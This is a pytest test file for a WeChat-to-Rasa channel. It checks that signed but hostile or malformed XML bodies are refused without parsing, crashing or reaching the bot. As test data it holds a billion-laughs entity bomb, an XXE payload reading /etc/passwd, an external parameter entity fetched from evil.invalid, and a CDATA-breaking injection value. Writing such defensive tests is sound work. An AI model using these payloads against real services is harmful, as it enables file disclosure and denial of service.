"""Hostile or broken requests with a valid signature: refused cleanly, nothing expanded or crashed."""

from __future__ import annotations

import pytest

from channels.wechat import safe_xml
from tests.channels.conftest import (
    ACCOUNT,
    AES_KEY,
    OPENID,
    URL,
    FakeRasa,
    make_app,
    make_settings,
    post_raw,
    send,
    sim_config,
)
from tooling.wechat_sim import build_message_xml, sign_message

MESSAGE = build_message_xml("text", "hi", OPENID, ACCOUNT, msg_id=1)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
              for i in range(1, 10))
    + "]>" + MESSAGE.replace("hi", "&lol9;")
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + MESSAGE.replace("<![CDATA[hi]]>", "&xxe;")
)
HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe": XXE,
    "parameter-entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>'
    + MESSAGE,
    "lower-case-doctype": "<!doctype xml>" + MESSAGE,
    "doctype-behind-a-comment": "<!-- <![CDATA[ --><!DOCTYPE x [<!ENTITY a 'b'>]><!-- ]]> -->"
    + MESSAGE,
}
# Entity references with no DTD at all: nothing for the text rules to find, so the document is
# parsed, and the parser must refuse the unknown entities instead of skipping or expanding them.
UNDECLARED = {
    "undeclared-entity": MESSAGE.replace("<![CDATA[hi]]>", "&xxe;"),
    "undeclared-entity-bomb": MESSAGE.replace("<![CDATA[hi]]>", "&lol9;" * 1000),
}


@pytest.mark.parametrize("body", [*HOSTILE.values(), *UNDECLARED.values()],
                         ids=[*HOSTILE.keys(), *UNDECLARED.keys()])
async def test_hostile_xml_is_refused_without_reaching_rasa(body):
    rasa = FakeRasa()
    app, _ = make_app(rasa)
    params = sign_message(MESSAGE, sim_config()).params
    response = await post_raw(app, params, body)
    assert response.status == 400
    assert "root:" not in response.text and "lol" not in response.text
    assert "Traceback" not in response.text
    assert rasa.received == []


async def test_hostile_xml_inside_an_encrypted_message_is_refused_too():
    rasa = FakeRasa()
    app, _ = make_app(rasa, make_settings(encoding_aes_key=AES_KEY))
    signed = sign_message(XXE, sim_config(encrypt=True))
    response = await post_raw(app, signed.params, signed.body)
    assert response.status == 400
    assert rasa.received == []


async def test_a_pasted_web_page_in_the_message_text_is_just_text():
    rasa = FakeRasa()
    app, _ = make_app(rasa)
    page = '<!DOCTYPE html><html><body>贷款秒批 <!ENTITY x "y"></body></html>'
    _, reply = await send(app, text=page)
    assert rasa.texts == [page]
    assert reply.text == f"echo: {page}"


MALFORMED = {
    "truncated": MESSAGE[:-10],
    "not-xml": "hello there",
    "json": '{"MsgType": "text", "Content": "hi"}',
    "wrong-root": MESSAGE.replace("<xml>", "<msg>").replace("</xml>", "</msg>"),
    "empty": "",
    "no-sender": MESSAGE.replace(f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>", ""),
    "two-senders": MESSAGE.replace("</xml>", "<FromUserName>o_x</FromUserName></xml>"),
    "odd-sender": MESSAGE.replace(OPENID, "o]]><evil/>"),
    "msgid-not-a-number": MESSAGE.replace("<MsgId>1</MsgId>", "<MsgId>abc</MsgId>"),
    "no-msgtype": MESSAGE.replace("<MsgType><![CDATA[text]]></MsgType>", ""),
}


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED.keys())
async def test_malformed_xml_gets_400_never_a_traceback(body):
    rasa = FakeRasa()
    app, _ = make_app(rasa)
    params = sign_message(MESSAGE, sim_config()).params
    response = await post_raw(app, params, body)
    assert response.status == 400
    assert "Traceback" not in response.text and len(response.text) < 200
    assert rasa.received == []


async def test_body_that_is_not_utf8_gets_400():
    app, _ = make_app(FakeRasa())
    params = sign_message(MESSAGE, sim_config()).params
    response = await post_raw(app, params, MESSAGE.replace("hi", "贷款").encode("gbk"))
    assert response.status == 400 and "UTF-8" in response.text


async def test_oversized_body_is_refused_with_413():
    rasa = FakeRasa()
    app, _ = make_app(rasa)
    huge = MESSAGE.replace("hi", "骗" * 20_000)  # 60 kB, WeChat never sends that much
    params = sign_message(huge, sim_config()).params
    response = await post_raw(app, params, huge)
    assert response.status == 413
    assert rasa.received == []


async def test_oversized_body_without_content_length_is_refused_while_streaming():
    rasa = FakeRasa()
    app, _ = make_app(rasa)
    params = sign_message(MESSAGE, sim_config()).params

    async def chunks():  # chunked transfer: no Content-Length header to check up front
        for _ in range(100):
            yield b"<" * 1024

    _, response = await app.asgi_client.post(URL, params=params, content=chunks())
    assert response.status == 413
    assert rasa.received == []


async def test_unsigned_oversized_body_is_refused_before_reading_it():
    app, _ = make_app(FakeRasa())
    response = await post_raw(app, {"timestamp": "1", "nonce": "2"}, b"x" * 100_000)
    assert response.status == 403


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_declarations_are_refused_before_any_xml_parser_runs(body, monkeypatch):
    def no_parsing(*_args, **_kwargs):
        raise AssertionError("an XML parser was created for a hostile document")

    monkeypatch.setattr(safe_xml.xml.parsers.expat, "ParserCreate", no_parsing)
    # A DOCTYPE hidden behind a comment is caught by the strict prolog rule instead.
    expected = safe_xml.BadXMLError if "<!--" in body else safe_xml.HostileXMLError
    with pytest.raises(expected):
        safe_xml.screen_xml(body)


@pytest.mark.parametrize("body", UNDECLARED.values(), ids=UNDECLARED.keys())
def test_undeclared_entities_are_parsed_and_refused_unexpanded(body, monkeypatch):
    parsers = []
    create_parser = safe_xml.xml.parsers.expat.ParserCreate

    def recording(*args, **kwargs):
        parsers.append(create_parser(*args, **kwargs))
        return parsers[-1]

    monkeypatch.setattr(safe_xml.xml.parsers.expat, "ParserCreate", recording)
    with pytest.raises(safe_xml.BadXMLError, match="undefined entity") as refused:
        safe_xml.screen_xml(body)
    assert len(parsers) == 1  # the expat guard read the document: no text rule stopped it first
    assert refused.type is safe_xml.BadXMLError  # malformed, not a declaration


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_the_expat_guard_alone_also_stops_at_the_dtd(body):
    with pytest.raises(safe_xml.HostileXMLError):
        safe_xml._guard_parse(body)
